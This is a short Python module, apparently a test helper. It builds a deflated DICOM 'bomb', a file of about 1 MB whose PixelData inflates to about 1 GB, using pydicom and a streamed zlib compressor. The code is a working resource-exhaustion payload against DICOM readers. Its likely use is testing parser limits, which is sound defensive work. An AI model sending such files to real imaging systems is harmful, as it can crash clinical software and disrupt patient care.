"""A Deflated DICOM bomb, streamed: about 1 MB on disk, about 1 GB once inflated, built without
ever holding the inflated dataset in memory."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.filebase import DicomBytesIO
from pydicom.filewriter import write_dataset, write_file_meta_info
from pydicom.uid import DeflatedExplicitVRLittleEndian, generate_uid

DX_FOR_PRESENTATION = "1.2.840.10008.5.1.4.1.1.1.1"
INFLATED_BYTES = 1 << 30
_CHUNK = 16 * 1024 * 1024


def bomb_header(rows: int = 512, columns: int = 512) -> Dataset:
    """A plausible DX film header (the pixels follow as one huge zero-filled PixelData)."""
    ds = Dataset()
    ds.SOPClassUID = DX_FOR_PRESENTATION
    ds.SOPInstanceUID = generate_uid()
    ds.StudyInstanceUID = generate_uid()
    ds.SeriesInstanceUID = generate_uid()
    ds.PatientID = "BOMB"
    ds.Modality = "DX"
    ds.Rows, ds.Columns = rows, columns
    ds.SamplesPerPixel = 1
    ds.PhotometricInterpretation = "MONOCHROME2"
    ds.BitsAllocated = 16
    ds.BitsStored = 12
    ds.HighBit = 11
    ds.PixelRepresentation = 0
    return ds


def deflate_bomb(inflated_bytes: int = INFLATED_BYTES) -> bytes:
    """Part 10 bytes: file meta, then a deflated dataset whose PixelData is `inflated_bytes` of
    zeros."""
    header = bomb_header()
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = header.SOPClassUID
    meta.MediaStorageSOPInstanceUID = header.SOPInstanceUID
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    out = DicomBytesIO()
    out.is_little_endian, out.is_implicit_VR = True, False
    out.write(b"\x00" * 128 + b"DICM")
    write_file_meta_info(out, meta)
    body = DicomBytesIO()
    body.is_little_endian, body.is_implicit_VR = True, False
    write_dataset(body, header)
    size = inflated_bytes - inflated_bytes % 2
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    deflated = BytesIO()
    deflated.write(compressor.compress(body.getvalue()))
    deflated.write(compressor.compress(b"\xe0\x7f\x10\x00OW\x00\x00" + struct.pack("<I", size)))
    zeros = bytes(_CHUNK)
    left = size
    while left:
        step = min(left, _CHUNK)
        deflated.write(compressor.compress(zeros if step == _CHUNK else zeros[:step]))
        left -= step
    deflated.write(compressor.flush())
    data = deflated.getvalue()
    out.write(data + (b"\x00" if len(data) % 2 else b""))
    return out.getvalue()
